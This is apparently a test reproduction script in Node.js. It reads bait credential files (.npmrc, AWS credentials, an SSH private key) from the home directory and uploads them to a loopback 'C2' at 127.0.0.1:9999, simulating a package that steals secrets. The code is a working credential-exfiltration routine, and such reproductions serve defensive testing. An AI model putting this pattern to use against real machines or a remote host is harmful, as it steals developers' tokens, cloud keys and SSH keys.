// Harmless reproduction: reads bait files from $HOME and uploads them to the
// loopback "C2" (127.0.0.1:9999) inside the test's own network namespace.
const fs = require('fs');
const os = require('os');
const net = require('net');
const path = require('path');
const loot = {};
for (const f of ['.npmrc', '.aws/credentials', '.ssh/id_rsa']) {
  try { loot[f] = fs.readFileSync(path.join(os.homedir(), f), 'utf8'); } catch (e) { loot[f] = null; }
}
const s = net.connect(9999, '127.0.0.1', () => s.end(JSON.stringify(loot) + '\n'));
s.on('error', () => {});
s.setTimeout(3000, () => s.destroy());
